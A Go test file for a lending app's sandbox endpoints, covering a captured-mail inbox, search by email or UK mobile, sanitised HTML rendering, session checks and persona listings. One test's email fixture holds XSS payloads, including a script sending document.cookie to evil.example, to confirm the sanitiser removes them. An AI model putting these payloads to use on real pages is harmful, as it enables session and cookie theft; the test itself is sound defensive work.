package app

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/gin-gonic/gin"

	"lender/bff/internal/apigen"
	"lender/bff/internal/session"
	"lender/bff/upstream/notify"
	"lender/bff/upstream/transport"
	sandboxidentity "lender/sandbox/identity"
	sandboxpayments "lender/sandbox/payments"
	"lender/sandbox/personas"
)

// mailboxLogin signs in as the sandbox user through the BFF, as the mailbox screen does.
func mailboxLogin(t *testing.T, st *stack) credentials {
	t.Helper()
	res, env := st.call(http.MethodPost, st.api+"/sandbox/login", nil, nil, nil)
	if res.StatusCode != http.StatusOK || env.Status != 200 {
		t.Fatalf("sandbox/login: HTTP %d %+v", res.StatusCode, env)
	}
	var out struct {
		SandboxToken string `json:"sandboxToken"`
	}
	if err := json.Unmarshal(env.ResultData, &out); err != nil || out.SandboxToken == "" {
		t.Fatalf("sandbox/login: no token in %s", env.ResultData)
	}
	cookies := res.Cookies()
	if len(cookies) != 1 || !cookies[0].HttpOnly {
		t.Fatalf("sandbox/login set %d cookies (%v), want one HttpOnly binding cookie", len(cookies), cookies)
	}
	return credentials{token: out.SandboxToken, cookie: cookies[0]}
}

// sandboxAudienceSession starts a sandbox-audience session directly in the BFF's Redis, for a BFF
// whose sandbox/login is switched off.
func sandboxAudienceSession(t *testing.T, st *stack) credentials {
	t.Helper()
	rec := httptest.NewRecorder()
	c, _ := gin.CreateTestContext(rec)
	c.Request = httptest.NewRequest(http.MethodPost, "/", nil)
	token, err := st.srv.Sessions().Start(context.Background(), c, session.NewSession{Subject: "sandbox-user", Audience: session.AudienceSandbox, Role: "sandbox",
		Proof: session.ProofSandbox})
	if err != nil {
		t.Fatal(err)
	}
	return credentials{token: token, cookie: rec.Result().Cookies()[0]}
}

// mailProvider is the notify client pointed at the stack's sandbox: mails are sent the way the BFF
// sends them.
func mailProvider(st *stack) *notify.Client {
	return notify.New(transport.DefaultConfig(st.upstream.URL+"/notify/v1"), nil)
}

func searchMailbox(t *testing.T, st *stack, creds credentials, address string) []apigen.SandboxMessageSummary {
	t.Helper()
	res, env := st.call(http.MethodPost, st.api+"/sandbox/searchEmail", strings.NewReader(`{"address":`+jsonString(address)+`}`), &creds, nil)
	if res.StatusCode != http.StatusOK || env.Status != 200 {
		t.Fatalf("searchEmail %q: HTTP %d %+v", address, res.StatusCode, env)
	}
	var out struct {
		Messages []apigen.SandboxMessageSummary `json:"messages"`
	}
	if err := json.Unmarshal(env.ResultData, &out); err != nil {
		t.Fatal(err)
	}
	return out.Messages
}

// sameEnvelope: two failure envelopes a caller cannot tell apart.
func sameEnvelope(a, b envelope) bool {
	return a.Status == b.Status && a.ErrorCode == b.ErrorCode && a.ErrorMessage == b.ErrorMessage && string(a.ResultData) == string(b.ResultData)
}

// bodyOf is a request body, or none for "".
func bodyOf(s string) io.Reader {
	if s == "" {
		return nil
	}
	return strings.NewReader(s)
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func TestSandboxMailboxFindsAndOpensACapturedMail(t *testing.T) {
	t.Parallel()
	st := startStack(t, nil)
	creds := mailboxLogin(t, st)
	np := mailProvider(st)
	ctx := context.Background()

	const link = "http://127.0.0.1:8080/#/login/emailMagicLink?token=Zm9vYmFyYmF6cXV4cXV1eA"
	older, err := np.SendEmail(ctx, "mailbox-test-1", notify.Email{To: "jo.tester@example.com", Subject: "Your earlier mail", Text: "hello"})
	if err != nil {
		t.Fatal(err)
	}
	sent, err := np.SendEmail(ctx, "mailbox-test-2", notify.Email{
		To:      "jo.tester@example.com",
		Subject: "Sign in to Meadow Loans",
		HTML: `<html><head><style>p{color:red}</style></head><body><p onclick="steal()">Hello Jo,</p>` +
			`<script>document.location='https://evil.example/?c='+document.cookie</script>` +
			`<p><a href="` + link + `" target="_blank">Sign in</a></p>` +
			`<a href="javascript:alert(1)">bad</a><img src="https://img.example/x.png" onerror="alert(1)"></body></html>`,
		Text: "Sign in: " + link,
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := np.SendEmail(ctx, "mailbox-test-3", notify.Email{To: "someone.else@example.com", Subject: "Not yours", Text: "x"}); err != nil {
		t.Fatal(err)
	}
	smsText := "Your Meadow Loans sign-in code is 123456. It expires in 10 minutes. Never share it with anyone."
	sms, err := np.SendSMS(ctx, "mailbox-test-4", notify.SMS{To: "+447700900123", Text: smsText})
	if err != nil {
		t.Fatal(err)
	}

	t.Run("an e-mail address finds its mails newest first, whatever its case", func(t *testing.T) {
		got := searchMailbox(t, st, creds, "  Jo.Tester@EXAMPLE.com ")
		if len(got) != 2 || got[0].Id != sent.ID || got[1].Id != older.ID {
			t.Fatalf("found %+v, want %s then %s", got, sent.ID, older.ID)
		}
		if got[0].Kind != "email" || got[0].Subject != "Sign in to Meadow Loans" || got[0].To != "jo.tester@example.com" || got[0].CreatedAt.IsZero() {
			t.Fatalf("summary %+v", got[0])
		}
	})

	t.Run("a UK mobile typed as people type it finds its SMS", func(t *testing.T) {
		for _, typed := range []string{"07700 900123", "+44 7700 900123", "+447700900123"} {
			got := searchMailbox(t, st, creds, typed)
			if len(got) != 1 || got[0].Id != sms.ID || got[0].Kind != "sms" {
				t.Fatalf("%q found %+v", typed, got)
			}
			if got[0].Subject != smsText[:60] {
				t.Fatalf("SMS subject %q, want its first 60 characters", got[0].Subject)
			}
		}
	})

	t.Run("an address with no mail finds nothing", func(t *testing.T) {
		if got := searchMailbox(t, st, creds, "nobody@example.com"); len(got) != 0 {
			t.Fatalf("found %+v", got)
		}
	})

	t.Run("something that is neither an address nor a mobile is refused", func(t *testing.T) {
		res, env := st.call(http.MethodPost, st.api+"/sandbox/searchEmail", strings.NewReader(`{"address":"hello world"}`), &creds, nil)
		if res.StatusCode != http.StatusBadRequest || env.ErrorCode != 100400 {
			t.Fatalf("HTTP %d %+v", res.StatusCode, env)
		}
	})

	t.Run("opening the mail shows sanitised HTML with its links", func(t *testing.T) {
		res, env := st.call(http.MethodGet, st.api+"/sandbox/email/"+sent.ID, nil, &creds, nil)
		if res.StatusCode != http.StatusOK || env.Status != 200 {
			t.Fatalf("HTTP %d %+v", res.StatusCode, env)
		}
		var m apigen.SandboxMessage
		if err := json.Unmarshal(env.ResultData, &m); err != nil {
			t.Fatal(err)
		}
		if m.Id != sent.ID || m.Kind != "email" || m.Subject != "Sign in to Meadow Loans" || m.Text != "Sign in: "+link {
			t.Fatalf("message %+v", m)
		}
		if !slices.Contains(m.Links, link) {
			t.Fatalf("links %v lack the magic link", m.Links)
		}
		for _, gone := range []string{"<script", "document.cookie", "onclick", "onerror", "javascript:", "<style", "color:red", "target="} {
			if strings.Contains(m.Html, gone) {
				t.Errorf("sanitised HTML still has %q: %s", gone, m.Html)
			}
		}
		wantLink := `<a href="http://127.0.0.1:8080/#/login/emailMagicLink?token=Zm9vYmFyYmF6cXV4cXV1eA" rel="noopener noreferrer">Sign in</a>`
		if !strings.Contains(m.Html, wantLink) || !strings.Contains(m.Html, "Hello Jo,") {
			t.Fatalf("sanitised HTML lost the text or the link: %s", m.Html)
		}
	})

	t.Run("an SMS opens with its text and no HTML", func(t *testing.T) {
		_, env := st.call(http.MethodGet, st.api+"/sandbox/email/"+sms.ID, nil, &creds, nil)
		var m apigen.SandboxMessage
		if err := json.Unmarshal(env.ResultData, &m); err != nil {
			t.Fatal(err)
		}
		if m.Kind != "sms" || m.Text != smsText || m.Html != "" || m.Links == nil {
			t.Fatalf("SMS %+v", m)
		}
	})

	t.Run("an unknown message is a 404 envelope", func(t *testing.T) {
		res, env := st.call(http.MethodGet, st.api+"/sandbox/email/msg_doesnotexist", nil, &creds, nil)
		if res.StatusCode != http.StatusNotFound || env.ErrorCode != 100404 || env.Status != 404 {
			t.Fatalf("HTTP %d %+v", res.StatusCode, env)
		}
	})
}

func TestSandboxCallsNeedTheSandboxUsersSession(t *testing.T) {
	t.Parallel()
	st := startStack(t, nil)
	borrower := st.signIn("cus_up_to_date")
	calls := []struct{ method, path, body string }{
		{http.MethodPost, "/sandbox/searchEmail", `{"address":"jo@example.com"}`},
		{http.MethodGet, "/sandbox/email/msg_abc", ""},
		{http.MethodGet, "/sandbox/personas", ""},
	}
	for _, c := range calls {
		for name, creds := range map[string]*credentials{"a borrower's token": &borrower, "no token": nil} {
			res, env := st.call(c.method, st.api+c.path, bodyOf(c.body), creds, nil)
			if res.StatusCode != http.StatusUnauthorized || env.ErrorCode != 100401 {
				t.Errorf("%s %s with %s: HTTP %d %+v, want 401", c.method, c.path, name, res.StatusCode, env)
			}
		}
	}
	// The sandbox user's own token opens them.
	sandboxUser := mailboxLogin(t, st)
	res, env := st.call(http.MethodGet, st.api+"/sandbox/personas", nil, &sandboxUser, nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("personas with the sandbox token: HTTP %d %+v", res.StatusCode, env)
	}
}

func TestSandboxCallsAreNotFoundWhenTheSandboxEndpointsAreOff(t *testing.T) {
	t.Parallel()
	st := startStack(t, map[string]string{"BFF_SANDBOX_ENDPOINTS": "false"})
	_, unknown := st.call(http.MethodGet, st.api+"/sandbox/nothing-here", nil, nil, nil)

	res, env := st.call(http.MethodGet, st.api+"/sandbox/info", nil, nil, nil)
	if res.StatusCode != http.StatusOK || string(env.ResultData) != `{"enabled":false}` {
		t.Fatalf("sandbox/info: HTTP %d %s", res.StatusCode, env.ResultData)
	}

	res, env = st.call(http.MethodPost, st.api+"/sandbox/login", nil, nil, nil)
	if res.StatusCode != http.StatusNotFound || !sameEnvelope(env, unknown) {
		t.Fatalf("sandbox/login: HTTP %d %+v, want the unknown route's %+v", res.StatusCode, env, unknown)
	}
	if len(res.Cookies()) != 0 {
		t.Fatalf("sandbox/login set cookies while off: %v", res.Cookies())
	}
	// Even a sandbox-audience session (left from before the switch) reaches nothing.
	creds := sandboxAudienceSession(t, st)
	for _, c := range []struct{ method, path, body string }{
		{http.MethodPost, "/sandbox/searchEmail", `{"address":"jo@example.com"}`},
		{http.MethodGet, "/sandbox/email/msg_abc", ""},
		{http.MethodGet, "/sandbox/personas", ""},
	} {
		res, env := st.call(c.method, st.api+c.path, bodyOf(c.body), &creds, nil)
		if res.StatusCode != http.StatusNotFound || !sameEnvelope(env, unknown) {
			t.Errorf("%s %s: HTTP %d %+v, want the unknown route's %+v", c.method, c.path, res.StatusCode, env, unknown)
		}
		// Without a token too: a 401 would tell a caller the route exists.
		res, env = st.call(c.method, st.api+c.path, bodyOf(c.body), nil, nil)
		if res.StatusCode != http.StatusNotFound || !sameEnvelope(env, unknown) {
			t.Errorf("%s %s without a token: HTTP %d %+v, want the unknown route's %+v", c.method, c.path, res.StatusCode, env, unknown)
		}
	}
}

func TestSandboxPersonasAreTheSandboxsCatalogue(t *testing.T) {
	t.Parallel()
	st := startStack(t, nil)
	creds := mailboxLogin(t, st)
	res, env := st.call(http.MethodGet, st.api+"/sandbox/personas", nil, &creds, nil)
	if res.StatusCode != http.StatusOK || env.Status != 200 {
		t.Fatalf("HTTP %d %+v", res.StatusCode, env)
	}
	var got struct {
		Personas   []apigen.SandboxPersona   `json:"personas"`
		TestCards  []apigen.SandboxTestValue `json:"testCards"`
		ShareCodes []apigen.SandboxTestValue `json:"shareCodes"`
	}
	if err := json.Unmarshal(env.ResultData, &got); err != nil {
		t.Fatal(err)
	}
	cat := personas.All()
	if want := len(cat.Applicants) + len(cat.Borrowers) + len(cat.Staff) + len(cat.PortalUsers); len(got.Personas) != want || want == 0 {
		t.Fatalf("%d personas, want %d", len(got.Personas), want)
	}
	byKey := map[string]apigen.SandboxPersona{}
	for _, p := range got.Personas {
		if p.Key == "" || p.Title == "" || p.Description == "" || p.SignIn == "" {
			t.Errorf("incomplete persona %+v", p)
		}
		byKey[p.Key] = p
	}
	for _, b := range cat.Borrowers {
		if p, ok := byKey[b.Key]; !ok || p.SignIn != b.Email {
			t.Errorf("borrower %s: got %+v, want sign-in with %s", b.Key, p, b.Email)
		}
	}
	for _, a := range cat.Applicants {
		p, ok := byKey["applicant-"+strings.TrimPrefix(a.Tag, "+")]
		if !ok || !strings.Contains(p.SignIn, "any address tagged "+a.Tag) {
			t.Errorf("applicant rule %s: got %+v", a.Tag, p)
		}
	}
	values := func(vs []apigen.SandboxTestValue) []string {
		var out []string
		for _, v := range vs {
			out = append(out, v.Value)
		}
		return out
	}
	var cards, codes []string
	for _, c := range sandboxpayments.TestCards() {
		cards = append(cards, c.Number)
	}
	for _, c := range sandboxidentity.ShareCodes() {
		codes = append(codes, c.Code)
	}
	if !slices.Equal(values(got.TestCards), cards) || len(cards) == 0 {
		t.Errorf("test cards %v, want %v", values(got.TestCards), cards)
	}
	if !slices.Equal(values(got.ShareCodes), codes) || len(codes) == 0 {
		t.Errorf("share codes %v, want %v", values(got.ShareCodes), codes)
	}
}
